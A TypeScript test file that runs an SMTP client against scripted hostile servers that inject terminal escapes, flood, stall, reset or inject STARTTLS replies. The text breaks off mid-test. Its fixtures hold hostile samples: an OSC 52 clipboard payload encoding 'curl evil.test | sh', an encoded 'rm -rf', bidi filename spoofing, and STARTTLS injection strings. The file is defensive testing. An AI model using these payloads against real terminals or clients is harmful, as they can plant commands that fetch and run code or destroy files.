// Hostile peers: the built `smtp-tui run` against byte-exact scripted servers on loopback that
// inject terminal escapes, flood, stall, reset, lie about TLS or loop forever. Every case checks
// what the user sees (the exit code, the one sentence on the `***` line, escapes shown as text,
// never a raw control byte), that no credential leaks over cleartext, and that the process ends
// well within its timeout.
import {after, before, describe, test} from 'node:test';
import assert from 'node:assert/strict';
import {spawn} from 'node:child_process';
import {existsSync, readFileSync} from 'node:fs';
import {mkdtemp, rm, writeFile} from 'node:fs/promises';
import http from 'node:http';
import type net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import {makeLabCertificates, type LabCa} from '../../source/lab/ca.js';
import {cliPath} from '../support/pty.js';
import {scriptedServer, sleep, upgradeServer, type Handler, type LineReader} from '../support/scripted-server.js';

type Result = {code: number | null; stdout: string; stderr: string; ms: number; peakRssKb?: number};

const password = 'Hostile-Pass-7f3a9c';
const timeBinary = '/usr/bin/time';
/** No run may take longer than this (the CLI gets --timeout 2): beyond it, it hung. */
const hardLimitMs = 30_000;

let tmp: string;
let good: LabCa;
let wrongHost: LabCa;
let caFile: string;
let wrongCaFile: string;

before(async () => {
	tmp = await mkdtemp(path.join(os.tmpdir(), 'smtp-tui-hostile-'));
	[good, wrongHost] = await Promise.all([makeLabCertificates('mx.test', 'valid'), makeLabCertificates('mx.test', 'wrong-host')]);
	caFile = path.join(tmp, 'ca.pem');
	wrongCaFile = path.join(tmp, 'wrong-ca.pem');
	await writeFile(caFile, good.ca);
	await writeFile(wrongCaFile, wrongHost.ca);
});
after(async () => {
	await rm(tmp, {recursive: true, force: true});
});

/** Peak resident memory of the child in KB: GNU time when present, else VmHWM polled from /proc. */
async function runCli(args: string[], options: {measure?: boolean} = {}): Promise<Result> {
	const useTime = options.measure && existsSync(timeBinary);
	const rssFile = path.join(tmp, `rss-${process.hrtime.bigint()}`);
	const command = useTime ? timeBinary : process.execPath;
	const argv = useTime ? ['-f', '%M', '-o', rssFile, process.execPath, cliPath, ...args] : [cliPath, ...args];
	const started = performance.now();
	const child = spawn(command, argv, {env: {...process.env, HOSTILE_PW: password}, stdio: ['ignore', 'pipe', 'pipe']});
	let stdout = '';
	let stderr = '';
	let polledKb = 0;
	child.stdout.setEncoding('utf8').on('data', (text: string) => {
		stdout += text;
	});
	child.stderr.setEncoding('utf8').on('data', (text: string) => {
		stderr += text;
	});
	const poll = options.measure && !useTime ? setInterval(() => {
		try {
			const hwm = /VmHWM:\s+(\d+) kB/.exec(readFileSync(`/proc/${child.pid}/status`, 'utf8'));
			if (hwm) polledKb = Math.max(polledKb, Number(hwm[1]));
		} catch {}
	}, 5) : undefined;
	const killer = setTimeout(() => child.kill('SIGKILL'), hardLimitMs);
	const code = await new Promise<number | null>(resolve => {
		child.on('close', status => resolve(status));
	});
	clearTimeout(killer);
	clearInterval(poll);
	const ms = performance.now() - started;
	let peakRssKb: number | undefined = polledKb || undefined;
	if (useTime) peakRssKb = Number(/(\d+)\s*$/.exec(readFileSync(rssFile, 'utf8'))?.[1]);
	return {code, stdout, stderr, ms, peakRssKb};
}

function base(port: number, ...extra: string[]): string[] {
	return ['run', '--host', '127.0.0.1', '--port', String(port), '--to', 'a@b.test', '--timeout', '2', ...(extra.includes('--tls') ? [] : ['--tls', 'none']), ...extra];
}

// Raw controls a terminal would act on: C0 but TAB and LF, DEL, C1, bidi controls and separators.
const rawControl = /[\x00-\x08\x0B-\x1F\x7F-\x9F\u061C\u200E\u200F\u2028\u2029\u202A-\u202E\u2066-\u2069]/;

/**
 * The result every case shares: ended on its own (the harness kills a client that outlives
 * every timeout it was given, and code null says so), no raw control byte, no stack trace.
 * How long it took is not asserted: durations belong in the bench.
 */
function assertSane(result: Result): void {
	assert.notEqual(result.code, null, `killed after ${Math.round(result.ms)} ms: it hung`);
	assert.ok(!rawControl.test(result.stdout), `a raw control character reached stdout: ${JSON.stringify(result.stdout.match(rawControl)?.[0])}`);
	assert.ok(!rawControl.test(result.stderr), 'a raw control character reached stderr');
	assert.ok(!/\n\s+at /.test(result.stderr), `no stack trace: ${result.stderr}`);
	assert.notEqual(result.code, 1, `internal error: ${result.stderr}`);
}

/** The `***` lines: the one sentence the user reads. */
function errors(result: Result): string[] {
	return result.stdout.split('\n').filter(line => line.startsWith('*** ')).map(line => line.slice(4));
}

function assertSentence(result: Result, pattern: RegExp): void {
	const found = errors(result);
	assert.ok(found.some(line => pattern.test(line)), `expected a *** line matching ${String(pattern)}; got:\n${result.stdout}`);
	for (const line of found) assert.match(line, /[.!?)]$/, `a whole sentence: ${line}`);
}

/** What a well-behaved server does for each command; `over` changes any answer. */
type Overrides = {
	banner?: string | Buffer;
	ehlo?: string;
	onLine?: (line: string, socket: net.Socket, reader: LineReader) => Promise<boolean | void> | boolean | void;
};

function smtp(over: Overrides = {}): Handler {
	return async (socket, reader) => {
		socket.write(over.banner ?? '220 mx.test ESMTP\r\n');
		let inData = false;
		for (;;) {
			const line = await reader.next();
			if (line === undefined || socket.destroyed) return;
			if (over.onLine && await over.onLine(line, socket, reader)) continue;
			if (inData) {
				if (line === '.') {
					inData = false;
					socket.write('250 2.0.0 queued\r\n');
				}

				continue;
			}

			const verb = line.split(' ')[0]!.toUpperCase();
			if (verb === 'EHLO') socket.write(over.ehlo ?? '250-mx.test\r\n250 8BITMIME\r\n');
			else if (verb === 'DATA') {
				inData = true;
				socket.write('354 go ahead\r\n');
			} else if (verb === 'QUIT') {
				socket.end('221 2.0.0 bye\r\n');
				return;
			} else socket.write('250 2.0.0 ok\r\n');
		}
	};
}

async function against(handler: Handler, args: (port: number) => string[], options: {measure?: boolean} = {}): Promise<Result & {received: string[]}> {
	const server = await scriptedServer(handler);
	try {
		const result = await runCli(args(server.port), options);
		return {...result, received: server.received};
	} finally {
		await server.close();
	}
}

/**
 * Offers STARTTLS and answers it with what `inject` writes (its 220, and bytes that do not belong
 * there), then does real TLS: EHLO gets 8BITMIME, QUIT 221, anything else 250. The client's TLS
 * hello waits in the socket while `inject` writes. Lines received inside TLS go to `log`.
 */
function injectingStartTls(inject: (socket: net.Socket) => Promise<void> | void, log: string[]): Handler {
	return async (socket, reader) => {
		socket.write('220 mx.test ESMTP\r\n');
		for (;;) {
			const line = await reader.next();
			if (line === undefined) return;
			if (line.startsWith('EHLO')) socket.write('250-mx.test\r\n250 STARTTLS\r\n');
			else if (line === 'STARTTLS') {
				reader.detach();
				socket.pause();
				await inject(socket);
				const {secure, reader: tlsReader} = await upgradeServer(socket, reader, good, log);
				for (;;) {
					const inner = await tlsReader.next();
					if (inner === undefined) return;
					if (inner.startsWith('EHLO')) secure.write('250-mx.test\r\n250 8BITMIME\r\n');
					else if (inner === 'QUIT') {
						secure.end('221 bye\r\n');
						return;
					} else secure.write('250 ok\r\n');
				}
			} else socket.write('500 what\r\n');
		}
	};
}

const noAuthSent = (received: string[]) => assert.ok(!received.some(line => /^AUTH\b/i.test(line) || line.includes(Buffer.from(password).toString('base64'))), `no credentials sent: ${received.join(' | ')}`);

describe('hostile servers', {concurrency: 4}, () => {
	test('ESC[2J (clear screen) in the banner is shown as text', async () => {
		const result = await against(smtp({banner: '220 mx.test \u001B[2J\u001B[3J\u001B[H cleared\r\n'}), port => base(port, '--quit-after', 'banner'));
		assertSane(result);
		assert.equal(result.code, 0);
		assert.match(result.stdout, /^<- {2}220 mx\.test \\x1b\[2J\\x1b\[3J\\x1b\[H cleared$/m);
	});

	test('OSC 52 (set the clipboard) in the banner is shown as text, in text and in --json', async () => {
		const banner = '220 mx.test \u001B]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\u0007 hi\r\n';
		const result = await against(smtp({banner}), port => base(port, '--quit-after', 'banner'));
		assertSane(result);
		assert.match(result.stdout, /\\x1b\]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\\x07 hi/);
		const json = await against(smtp({banner}), port => base(port, '--quit-after', 'banner', '--json'));
		assertSane(json);
		const texts = json.stdout.trim().split('\n').map(line => (JSON.parse(line) as {text: string}).text);
		assert.ok(texts.includes('220 mx.test \u001B]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\u0007 hi'), 'the JSON keeps the exact text, escaped by JSON');
	});

	test('OSC 8 hyperlink in an EHLO line is shown as text', async () => {
		const result = await against(smtp({ehlo: '250-mx.test \u001B]8;;https://evil.test/\u001B\\click\u001B]8;;\u001B\\\r\n250 8BITMIME\r\n'}), port => base(port, '--quit-after', 'ehlo'));
		assertSane(result);
		assert.equal(result.code, 0);
		assert.match(result.stdout, /250-mx\.test \\x1b\]8;;https:\/\/evil\.test\/\\x1b\\click\\x1b\]8;;\\x1b\\/);
	});

	test('CSI 21t (title report) in a MAIL reply is shown as text', async () => {
		const result = await against(smtp({onLine: (line, socket) => line.startsWith('MAIL') && socket.write('250 ok \u001B[21t\u001B]l\u001B\\\r\n')}), port => base(port, '--quit-after', 'mail'));
		assertSane(result);
		assert.equal(result.code, 0);
		assert.match(result.stdout, /250 ok \\x1b\[21t\\x1b\]l\\x1b\\/);
	});

	test('C1 0x9B (one-byte CSI), as UTF-8 and as a raw byte, never reaches the terminal', async () => {
		const banner = Buffer.concat([Buffer.from('220 mx.test \u009B31m utf8 '), Buffer.from([0x9B]), Buffer.from('2J raw\r\n')]);
		const result = await against(smtp({banner}), port => base(port, '--quit-after', 'banner'));
		assertSane(result);
		assert.match(result.stdout, /220 mx\.test \\x9b31m utf8 \uFFFD2J raw/, 'the lone byte is invalid UTF-8: a replacement character');
	});

	test('bidi overrides and isolates are shown as \\u escapes', async () => {
		const result = await against(smtp({banner: '220 mx.test \u202Egnp.exe\u202C \u2066iso\u2069 \u200Fmark\r\n'}), port => base(port, '--quit-after', 'banner'));
		assertSane(result);
		assert.match(result.stdout, /220 mx\.test \\u202egnp\.exe\\u202c \\u2066iso\\u2069 \\u200fmark/);
	});

	test('every C0 control, DEL and C1 in one line: each one shown escaped', async () => {
		const controls = [...Array.from({length: 32}, (_, i) => i).filter(i => i !== 0x09 && i !== 0x0A && i !== 0x0D), 0x7F];
		const c1 = Array.from({length: 32}, (_, i) => String.fromCodePoint(0x80 + i)).join('');
		const banner = Buffer.concat([Buffer.from('220 x '), Buffer.from(controls), Buffer.from(` ${c1} a\rb\r\n`)]);
		const result = await against(smtp({banner}), port => base(port, '--quit-after', 'banner'));
		assertSane(result);
		const line = result.stdout.split('\n').find(l => l.startsWith('<-  220 x'))!;
		for (const code of [...controls, 0x0D, ...Array.from({length: 32}, (_, i) => 0x80 + i)]) {
			assert.ok(line.includes(`\\x${code.toString(16).padStart(2, '0')}`), `0x${code.toString(16)} shown escaped`);
		}
	});

	test('escapes inside a base64 AUTH challenge: the decoding is shown escaped', async () => {
		const challenge = Buffer.from('\u001B[2J\u001B]52;c;cm0gLXJm\u0007 \u009B0c Username:').toString('base64');
		const result = await against(smtp({
			ehlo: '250-mx.test\r\n250 AUTH LOGIN\r\n',
			onLine(line, socket) {
				if (line === 'AUTH LOGIN') socket.write(`334 ${challenge}\r\n`);
				else if (line === Buffer.from('alice').toString('base64')) socket.write('535 5.7.8 no\r\n');
				else return false;
				return true;
			},
		}), port => base(port, '--user', 'alice', '--password-env', 'HOSTILE_PW', '--insecure-auth', '--quit-after', 'auth'));
		assertSane(result);
		assert.equal(result.code, 28);
		assert.ok(result.stdout.includes(`334 ${challenge}    = "\\x1b[2J\\x1b]52;c;cm0gLXJm\\x07 \\x9b0c Username:"`), result.stdout);
		assertSentence(result, /^AUTH LOGIN failed with 535 5\.7\.8\.$/);
	});

	test('escapes inside a captured message (the body) are shown as text, and go on the wire as they are', async () => {
		const body = 'hello \u001B[2J\u001B]52;c;ZXZpbA==\u0007 \u202Etxt.exe\nbye\n';
		const file = path.join(tmp, 'hostile-body.txt');
		await writeFile(file, body);
		const result = await against(smtp(), port => base(port, '--body-file', file, '--subject', 'sub \u001B]0;title\u0007'));
		assertSane(result);
		assert.equal(result.code, 0, result.stdout);
		assert.match(result.stdout, /^ -> hello \\x1b\[2J\\x1b\]52;c;ZXZpbA==\\x07 \\u202etxt\.exe$/m);
		assert.match(result.stdout, /^ -> Subject: sub \\x1b\]0;title\\x07$/m);
		assert.ok(result.received.includes('hello \u001B[2J\u001B]52;c;ZXZpbA==\u0007 \u00E2\u0080\u00AEtxt.exe'), 'the message itself is not altered (latin1 view of UTF-8)');
	});

	test('a 10 MB reply line with no newline: one sentence, exit 22, memory stays bounded', async () => {
		const normal = await against(smtp(), port => base(port, '--quit-after', 'ehlo'), {measure: true});
		assert.equal(normal.code, 0);
		const chunk = Buffer.alloc(64 * 1024, 0x41);
		let written = 0;
		const result = await against(smtp({
			onLine: async (line, socket) => {
				if (!line.startsWith('EHLO')) return false;
				socket.write('250-');
				for (let i = 0; i < 160 && !socket.destroyed; i++) {
					if (!socket.write(chunk)) await new Promise(resolve => {
						socket.once('drain', resolve);
						socket.once('close', resolve);
					});
					written += chunk.length;
				}

				return true;
			},
		}), port => base(port), {measure: true});
		assertSane(result);
		assert.equal(result.code, 22);
		assertSentence(result, /^The server sent a reply line longer than 4096 bytes\.$/);
		assert.ok(written > 64 * 1024, 'the server really was sending');
		assert.ok(normal.peakRssKb && result.peakRssKb, 'peak RSS measured');
		const extraMb = (result.peakRssKb - normal.peakRssKb) / 1024;
		assert.ok(extraMb < 12, `peak RSS ${Math.round(result.peakRssKb / 1024)} MB vs ${Math.round(normal.peakRssKb / 1024)} MB for a normal session`);
		assert.ok(result.peakRssKb < 200 * 1024, `peak RSS ${Math.round(result.peakRssKb / 1024)} MB`);
	});

	test('an endless multi-line reply is cut at 512 lines: exit 22', async () => {
		const result = await against(smtp({
			onLine: async (line, socket) => {
				if (!line.startsWith('EHLO')) return false;
				for (let i = 0; !socket.destroyed && i < 200_000; i++) {
					if (!socket.write(`250-line ${i}\r\n`)) await new Promise(resolve => {
						socket.once('drain', resolve);
						socket.once('close', resolve);
					});
				}

				return true;
			},
		}), port => base(port), {measure: true});
		assertSane(result);
		assert.equal(result.code, 22);
		assertSentence(result, /^The server sent a reply with more than 512 lines\.$/);
		assert.ok(result.peakRssKb! < 200 * 1024, `peak RSS ${Math.round(result.peakRssKb! / 1024)} MB`);
	});

	test('a flood of replies nobody asked for is cut at 100: bounded, exit 22', async () => {
		const result = await against(async socket => {
			socket.write('220 mx.test\r\n');
			const flood = Buffer.from('250 flood\r\n'.repeat(2000));
			for (let i = 0; i < 500 && !socket.destroyed; i++) {
				if (!socket.write(flood)) await new Promise(resolve => {
					socket.once('drain', resolve);
					socket.once('close', resolve);
				});
			}
		}, port => base(port));
		assertSane(result);
		assert.equal(result.code, 22);
		assertSentence(result, /sent more than 100 replies that no command asked for; smtp-tui stopped listening\.$/);
		assert.ok(result.stdout.length < 64 * 1024, `the transcript stays short: ${result.stdout.length} bytes`);
	});

	test('mixed codes in one reply: exit 22 and which codes', async () => {
		const result = await against(smtp({ehlo: '250-mx.test\r\n550-surprise\r\n250 8BITMIME\r\n'}), port => base(port));
		assertSane(result);
		assert.equal(result.code, 22);
		assertSentence(result, /^The server's multi-line reply changed its code from 250 to 550 partway through\.$/);
	});

	test('a broken multi-line reply: the lines received are shown, escaped, before the error', async () => {
		const result = await against(smtp({ehlo: '250-odd.test\r\n251-8BITMIME\x1b[2J\r\n250 SIZE\r\n'}), port => base(port));
		assertSane(result);
		assert.equal(result.code, 22);
		const shown = result.stdout.indexOf('<-  250-odd.test');
		const changed = result.stdout.indexOf('251-8BITMIME\\x1b[2J');
		assert.ok(shown >= 0 && changed > shown, result.stdout);
		assert.ok(result.stdout.indexOf("changed its code from 250 to 251 partway through") > changed, result.stdout);
		assert.ok(!result.stdout.includes('\x1b'), 'no raw escape reached the terminal');
	});

	test('a reply code outside 2–5: in the banner exit 21, after MAIL exit 23', async () => {
		const banner = await against(smtp({banner: '199 mx.test hello\r\n'}), port => base(port));
		assertSane(banner);
		assert.equal(banner.code, 21);
		assertSentence(banner, /^The server sent reply code 199, but reply codes must start with 2, 3, 4 or 5\. This port does not seem to speak SMTP\.$/);
		const mail = await against(smtp({onLine: (line, socket) => line.startsWith('MAIL') && socket.write('650 six hundred\r\n')}), port => base(port));
		assertSane(mail);
		assert.equal(mail.code, 23);
		assertSentence(mail, /^The server sent reply code 650, but reply codes must start with 2, 3, 4 or 5\.$/);
	});

	test('a banner that never comes: exit 6 after the 2 s timeout', async () => {
		const result = await against(() => undefined, port => base(port));
		assertSane(result);
		assert.equal(result.code, 6);
		assertSentence(result, /^127\.0\.0\.1:\d+ did not answer with a banner within 2 s\.$/);
	});

	// A banner of "220-" lines that never ends: still exit 6 (the deadline), but the lines that came
	// are shown (escaped), in run, run --json and probe, and the sentence says the banner never finished.
	const drip: Handler = async socket => {
		for (let line = 0; line < 400 && !socket.destroyed; line++) {
			socket.write(`220-mx.test line ${line} \u001B]0;owned\u0007 still greeting\r\n`);
			await sleep(50);
		}
	};
	const neverFinished = /^127\.0\.0\.1:\d+ began its banner but never finished it within 2 s: (\d+) lines came, each "220-" \(more to follow\), but never the last line, "220 " with a space\.$/;
	const dripped = (line: number) => `220-mx.test line ${line} \\x1b]0;owned\\x07 still greeting`;

	test('a banner that drips "220-" lines forever: exit 6, the lines it sent shown escaped, and "never finished"', async () => {
		const result = await against(drip, port => base(port));
		assertSane(result);
		assert.equal(result.code, 6, result.stdout);
		assertSentence(result, neverFinished);
		const count = Number(errors(result).map(line => neverFinished.exec(line)?.[1]).find(Boolean));
		const shown = result.stdout.split('\n').filter(line => line.startsWith('<-  '));
		assert.ok(count >= 2, result.stdout);
		assert.deepEqual(shown, Array.from({length: count}, (_, line) => `<-  ${dripped(line)}`), 'every line received, in order, escaped');
		assert.ok(!result.stdout.includes('asking (on a second connection) whether this port speaks TLS'), 'a port that is talking is not asked about TLS');
	});

	test('a banner that drips "220-" lines forever, run --json: the lines as server entries, then the error', async () => {
		const result = await against(drip, port => base(port, '--json'));
		assertSane(result);
		assert.equal(result.code, 6, result.stdout);
		const entries = result.stdout.trim().split('\n').map(line => JSON.parse(line) as {direction: string; text: string; last?: boolean});
		const server = entries.filter(entry => entry.direction === 'server');
		assert.ok(server.length >= 2, result.stdout);
		server.forEach((entry, line) => {
			assert.equal(entry.text, `220-mx.test line ${line} \u001B]0;owned\u0007 still greeting`);
			assert.equal(entry.last, false);
		});
		const error = entries.at(-1)!;
		assert.equal(error.direction, 'error');
		assert.match(error.text, neverFinished);
		assert.equal(neverFinished.exec(error.text)?.[1], String(server.length));
	});

	test('a banner that drips "220-" lines forever, probe and probe --json: the lines shown, "never finished" said', async () => {
		const text = await against(drip, port => ['probe', '127.0.0.1', '--ports', `25=${port}`, '--timeout', '2']);
		assertSane(text);
		assert.match(text.stdout, /^25 {4}relay \/ MX {17}open, but the banner never finished: 127\.0\.0\.1:\d+ began its banner but never finished it within 2 s: \d+ lines came/m);
		const shown = text.stdout.split('\n').filter(line => line.startsWith('      <-  '));
		assert.ok(shown.length >= 2, text.stdout);
		assert.deepEqual(shown, shown.map((_, line) => `      <-  ${dripped(line)}`));
		assert.match(text.stdout, /^ {2}- Port 25 began a banner but never finished it \(\d+ "220-" lines, never the last one\)/m);
		assert.ok(!/sent no banner/.test(text.stdout), text.stdout);

		const json = await against(drip, port => ['probe', '127.0.0.1', '--ports', `25=${port}`, '--timeout', '2', '--json']);
		assertSane(json);
		const report = JSON.parse(json.stdout) as {rows: Array<{status: string; banner?: string; unfinishedBanner?: string[]; error?: string}>; diagnosis: string[]};
		const [row] = report.rows;
		assert.equal(row?.status, 'open');
		assert.equal(row?.banner, undefined, 'no banner: it never finished');
		assert.ok((row?.unfinishedBanner?.length ?? 0) >= 2, json.stdout);
		row!.unfinishedBanner!.forEach((line, at) => assert.equal(line, `220-mx.test line ${at} \u001B]0;owned\u0007 still greeting`));
		assert.match(row?.error ?? '', /began its banner but never finished it/);
		assert.ok(report.diagnosis.some(sentence => sentence.startsWith('Port 25 began a banner but never finished it')), report.diagnosis.join('\n'));
	});

	// The same banner, as fast as the socket takes it: the 512-line cap ends it, not the deadline.
	// The lines up to the cap are still shown, and it is said to be cut there, never finished (exit 21).
	const flood: Handler = async socket => {
		for (let line = 0; line < 2000 && !socket.destroyed; line++) {
			if (!socket.write(`220-mx.test line ${line} \u001B]0;owned\u0007 still greeting\r\n`)) {
				await new Promise(resolve => {
					socket.once('drain', resolve);
					socket.once('close', resolve);
				});
			}
		}
	};
	const cutAtCap = /^127\.0\.0\.1:\d+ began its banner but never finished it: it sent more than 512 lines, each "220-" \(more to follow\), and smtp-tui stopped reading at 512, its cap on one reply, before the last line came\.$/;

	test('a banner that floods "220-" lines: exit 21, the 512 lines up to the cap shown escaped, and "never finished"', async () => {
		const result = await against(flood, port => base(port));
		assertSane(result);
		assert.equal(result.code, 21, result.stdout);
		assertSentence(result, cutAtCap);
		const shown = result.stdout.split('\n').filter(line => line.startsWith('<-  '));
		assert.deepEqual(shown, Array.from({length: 512}, (_, line) => `<-  ${dripped(line)}`), 'every line up to the cap, in order, escaped');

		const json = await against(flood, port => base(port, '--json'));
		assertSane(json);
		assert.equal(json.code, 21, json.stdout);
		const entries = json.stdout.trim().split('\n').map(line => JSON.parse(line) as {direction: string; text: string; last?: boolean});
		const server = entries.filter(entry => entry.direction === 'server');
		assert.equal(server.length, 512);
		server.forEach((entry, line) => {
			assert.equal(entry.text, `220-mx.test line ${line} \u001B]0;owned\u0007 still greeting`);
			assert.equal(entry.last, false);
		});
		assert.match(entries.at(-1)!.text, cutAtCap);
	});

	test('a banner that floods "220-" lines, probe and probe --json: "the banner never finished", not "no banner"', async () => {
		const text = await against(flood, port => ['probe', '127.0.0.1', '--ports', `25=${port}`, '--timeout', '2']);
		assertSane(text);
		assert.match(text.stdout, /^25 {4}relay \/ MX {17}open, but the banner never finished: 127\.0\.0\.1:\d+ began its banner but never finished it: it sent more than 512 lines/m);
		const shown = text.stdout.split('\n').filter(line => line.startsWith('      <-  '));
		assert.deepEqual(shown, Array.from({length: 512}, (_, line) => `      <-  ${dripped(line)}`));
		assert.match(text.stdout, /^ {2}- Port 25 began a banner but never finished it \(512 "220-" lines, never the last one\)/m);
		assert.ok(!/sent no banner|no banner:/.test(text.stdout), text.stdout);

		const json = await against(flood, port => ['probe', '127.0.0.1', '--ports', `25=${port}`, '--timeout', '2', '--json']);
		assertSane(json);
		const report = JSON.parse(json.stdout) as {rows: Array<{status: string; banner?: string; unfinishedBanner?: string[]; error?: string}>; diagnosis: string[]};
		const [row] = report.rows;
		assert.equal(row?.status, 'open');
		assert.equal(row?.banner, undefined, 'no banner: it never finished');
		assert.equal(row?.unfinishedBanner?.length, 512, json.stdout.slice(0, 2000));
		assert.match(row?.error ?? '', /began its banner but never finished it/);
		assert.ok(report.diagnosis.some(sentence => sentence.startsWith('Port 25 began a banner but never finished it')), report.diagnosis.join('\n'));
	});

	test('slowloris, one byte per second: the per-reply timeout still ends it (exit 6)', async () => {
		const result = await against(async socket => {
			for (const byte of Buffer.from('220 mx.test a very slow banner\r\n')) {
				if (socket.destroyed) return;
				socket.write(Buffer.from([byte]));
				await sleep(1000);
			}
		}, port => base(port));
		assertSane(result);
		assert.equal(result.code, 6);
		assertSentence(result, /did not answer with a banner within 2 s\.$/);
	});

	test('connection reset in the middle of a multi-line reply: exit 22', async () => {
		const result = await against(smtp({
			onLine: async (line, socket) => {
				if (!line.startsWith('EHLO')) return false;
				socket.write('250-mx.test\r\n250-PIPELI');
				await sleep(50);
				socket.resetAndDestroy();
				return true;
			},
		}), port => base(port));
		assertSane(result);
		assert.equal(result.code, 22);
		assertSentence(result, /^127\.0\.0\.1:\d+: the connection was reset by the server\.$/);
	});

	test('connection reset in the middle of DATA: exit 26', async () => {
		let sawBody = false;
		const result = await against(smtp({
			onLine: (line, socket) => {
				if (!line.startsWith('Subject:')) return false;
				sawBody = true;
				socket.resetAndDestroy();
				return true;
			},
		}), port => base(port));
		assertSane(result);
		assert.ok(sawBody);
		assert.equal(result.code, 26);
		assertSentence(result, /the connection was reset by the server\.$|closed the connection/);
	});

	test('NUL bytes and invalid UTF-8 in a reply: shown, escaped, session goes on', async () => {
		const banner = Buffer.concat([Buffer.from('220 mx\0.test '), Buffer.from([0xFF, 0xFE, 0xC3, 0x28, 0xED, 0xA0, 0x80]), Buffer.from(' ok\r\n')]);
		const result = await against(smtp({banner}), port => base(port));
		assertSane(result);
		assert.equal(result.code, 0);
		assert.match(result.stdout, /^<- {2}220 mx\\x00\.test \uFFFD+\( ?\uFFFD* ok$/m);
	});

	for (const [how, code] of [['closes the connection', 29], ['stalls the handshake', 6]] as const) {
		test(`STARTTLS answered with 220 plus injected replies, then the server ${how}: the injection is still flagged (exit ${code})`, async () => {
			const result = await against(smtp({
				ehlo: '250-mx.test\r\n250 STARTTLS\r\n',
				onLine(line, socket) {
					if (line !== 'STARTTLS') return false;
					// The client's TLS hello that follows is never a line: the server answers nothing more.
					socket.write('220 2.0.0 Ready\r\n250 injected\r\n');
					if (code === 29) setTimeout(() => socket.end(), 200);
					return true;
				},
			}), port => base(port, '--tls', 'starttls', '--ca', caFile));
			assertSane(result);
			assert.equal(result.code, code, result.stdout);
			assertSentence(result, /^Discarded 14 bytes the server sent after its 220 and before TLS began: "250 injected\\x0d\\x0a"\. A correct server sends nothing there; this is the STARTTLS response-injection pattern\.$/);
		});
	}

	test('STARTTLS answered with 220 plus injected replies in the same packet: discarded, flagged, never believed', async () => {
		const log: string[] = [];
		const result = await against(injectingStartTls(socket => {
			socket.write('220 2.0.0 Ready\r\n250-fake\r\n250 AUTH PLAIN LOGIN\r\n');
		}, log), port => base(port, '--tls', 'starttls', '--ca', caFile, '--user', 'alice', '--password-env', 'HOSTILE_PW'));
		assertSane(result);
		assert.equal(result.code, 28, result.stdout);
		assertSentence(result, /^Discarded 32 bytes the server sent after its 220 and before TLS began: "250-fake\\x0d\\x0a250 AUTH PLAIN LOGIN\\x0d\\x0a"\. A correct server sends nothing there; this is the STARTTLS response-injection pattern\.$/);
		assertSentence(result, /^The server does not offer AUTH; cannot log in\.$/);
		assert.match(result.stdout, /^<~ {2}250 8BITMIME$/m, 'the real reply inside TLS was read');
		assert.ok(!/^<~ {2}250 AUTH PLAIN/m.test(result.stdout), 'the injected reply was never read as a TLS reply');
		noAuthSent([...result.received, ...log]);
	});

	// The race: bytes the server writes after its 220 but in a later packet reach the client after
	// it has started TLS. They are the same injection, whatever the packets: discarded, said, and
	// never read as a reply or handed to TLS (which would then fail the handshake).
	const injections: Array<[string, (socket: net.Socket) => Promise<void>]> = [
		['in one write', async socket => {
			socket.write('220 go\r\n250 injected\r\n');
		}],
		['in a second write', async socket => {
			socket.write('220 go\r\n');
			await sleep(50);
			socket.write('250 injected\r\n');
		}],
		['one byte per write', async socket => {
			socket.write('220 go\r\n');
			for (const byte of Buffer.from('250 injected\r\n')) {
				await sleep(5);
				socket.write(Buffer.from([byte]));
			}
		}],
	];
	for (const [how, inject] of injections) {
		test(`STARTTLS answered "220 go" then "250 injected" ${how}, then real TLS: discarded, flagged, never read as a reply (exit 0)`, async () => {
			const log: string[] = [];
			const result = await against(injectingStartTls(inject, log), port => base(port, '--tls', 'starttls', '--ca', caFile, '--quit-after', 'mail'));
			assertSane(result);
			assert.equal(result.code, 0, result.stdout);
			assertSentence(result, /^Discarded 14 bytes the server sent after its 220 and before TLS began: "250 injected\\x0d\\x0a"\. A correct server sends nothing there; this is the STARTTLS response-injection pattern\.$/);
			const replies = result.stdout.split('\n').filter(line => /^<[-~] /.test(line));
			assert.deepEqual(replies.slice(3), ['<-  220 go', '<~  250-mx.test', '<~  250 8BITMIME', '<~  250 ok', '<~  221 bye'], 'each reply inside TLS is the server\'s real one, in order');
			assert.ok(!replies.some(line => line.includes('injected')), 'the injected bytes were never read as a reply');
			assert.deepEqual(log.map(line => /^[A-Z]+/.exec(line)?.[0]), ['EHLO', 'MAIL', 'QUIT'], 'inside TLS: EHLO, MAIL, QUIT');
		});
	}

	// Lines that are no reply at all, or a reply that would break the 220's (another code), after the
	// 220 to STARTTLS: in its own packet they are as discarded as in a later one, never parsed.
	const unparseable: Array<[string, string]> = [['250-x\r\n251 y\r\n', '250-x\\x0d\\x0a251 y\\x0d\\x0a'], ['garbage\r\n', 'garbage\\x0d\\x0a']];
	for (const [bytes, quoted] of unparseable) {
		for (const [how, inject] of [
			['in the 220\'s write', (socket: net.Socket) => {
				socket.write(`220 go\r\n${bytes}`);
			}],
			['in a second write', async (socket: net.Socket) => {
				socket.write('220 go\r\n');
				await sleep(50);
				socket.write(bytes);
			}],
		] as const) {
			test(`STARTTLS answered "220 go" then ${JSON.stringify(bytes)} ${how}, then real TLS: discarded and noted, never parsed (exit 0)`, async () => {
				const log: string[] = [];
				const result = await against(injectingStartTls(inject, log), port => base(port, '--tls', 'starttls', '--ca', caFile, '--quit-after', 'mail'));
				assertSane(result);
				assert.equal(result.code, 0, result.stdout);
				assertSentence(result, new RegExp(`^Discarded ${Buffer.byteLength(bytes)} bytes the server sent after its 220 and before TLS began: "${quoted.replaceAll('\\', '\\\\')}"\\. A correct server sends nothing there; this is the STARTTLS response-injection pattern\\.$`));
				const replies = result.stdout.split('\n').filter(line => /^<[-~] /.test(line));
				assert.deepEqual(replies.slice(3), ['<-  220 go', '<~  250-mx.test', '<~  250 8BITMIME', '<~  250 ok', '<~  221 bye'], 'the 220, then only the real replies inside TLS');
				assert.ok(!/not an SMTP reply|changed its code/.test(result.stdout), result.stdout);
				assert.deepEqual(log.map(line => /^[A-Z]+/.exec(line)?.[0]), ['EHLO', 'MAIL', 'QUIT'], 'the session went on inside TLS');
			});
		}
	}

	test('STARTTLS refused with 454 and another reply in the same packet, TLS optional: no TLS follows, so that reply is read after all (out of turn)', async () => {
		const result = await against(smtp({
